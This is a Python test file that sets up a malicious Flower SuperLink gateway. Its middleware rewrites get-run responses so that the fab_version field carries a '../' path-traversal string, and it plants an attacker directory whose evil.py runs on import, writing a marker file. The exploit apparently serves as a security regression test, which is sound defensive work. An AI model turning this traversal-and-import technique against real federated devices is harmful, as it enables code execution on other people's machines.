"""A malicious SuperLink as the devices see it (tests only): the Fleet-only gateway, except that
every run it reports (`/v1/fleet/get-run`) names the operator's genuinely signed app under a
crafted `fab_version`: `<version>.<hash8>/../../<dir>/x`, a directory out of Flower's app folder
that the attacker prepared with code of its own. A device that builds its import path from the
run's fields would import that code (it writes `evil-imported.txt` when imported).

    python -m tests.evil_link --attacker-dir DIR [server.gateway options]
"""
import argparse
import sys
from pathlib import Path


def _prepare(target: Path, fab_id: str, version: str, marker: Path) -> None:
    """The attacker's directory, laid out as an installed app Flower would load."""
    target.mkdir(parents=True, exist_ok=True)
    publisher, name = fab_id.split("/")
    (target / "pyproject.toml").write_text(
        f'[project]\nname = "{name}"\nversion = "{version}"\n\n[tool.flwr.app]\npublisher = "{publisher}"\n\n'
        '[tool.flwr.app.components]\nserverapp = "evil:server"\nclientapp = "evil:client"\n')
    (target / "evil.py").write_text(f"open({str(marker)!r}, 'w').write('imported')\nclient = server = None\n")


def rewriting(app, attacker_dir: Path):
    """ASGI middleware: the get-run replies rewritten, everything else as the gateway relays it."""
    from flwr.proto.run_pb2 import GetRunResponse

    async def middleware(scope, receive, send):
        if scope.get("type") != "http" or not scope.get("path", "").endswith("/v1/fleet/get-run"):
            return await app(scope, receive, send)
        start, body = {}, []

        async def capture(message):
            if message["type"] == "http.response.start":
                start.update(message)
            elif message["type"] == "http.response.body":
                body.append(message.get("body", b""))
                if not message.get("more_body"):
                    res = GetRunResponse()
                    res.ParseFromString(b"".join(body))
                    run = res.run
                    if run.fab_hash and "/" not in run.fab_version:
                        target = attacker_dir / f"x.{run.fab_hash[:8]}"
                        depth = "/".join([".."] * 8)
                        crafted = f"{run.fab_version}.{run.fab_hash[:8]}/{depth}{attacker_dir}/x"
                        _prepare(target, run.fab_id, crafted, attacker_dir / "evil-imported.txt")
                        run.fab_version = crafted
                    data = res.SerializeToString()
                    headers = [(k, v) for k, v in start.get("headers", []) if k.lower() != b"content-length"]
                    headers.append((b"content-length", str(len(data)).encode()))
                    await send({**start, "headers": headers})
                    await send({"type": "http.response.body", "body": data})
        return await app(scope, receive, capture)
    return middleware


def main(argv=None):
    argv = sys.argv[1:] if argv is None else list(argv)
    p = argparse.ArgumentParser()
    p.add_argument("--attacker-dir", required=True)
    ours, rest = p.parse_known_args(argv)
    import uvicorn

    import server.gateway as G

    g = argparse.ArgumentParser()
    for opt in ("--listen", "--upstream", "--ssl-certfile", "--ssl-keyfile", "--upstream-ca"):
        g.add_argument(opt)
    a = g.parse_args(rest)
    host, port = G._host_port(a.listen, "--listen")
    app = rewriting(G.make_app(a.upstream, a.upstream_ca), Path(ours.attacker_dir).resolve())
    uvicorn.run(app, host=host, port=port, ssl_certfile=a.ssl_certfile, ssl_keyfile=a.ssl_keyfile,
                log_level="warning")


if __name__ == "__main__":
    main()
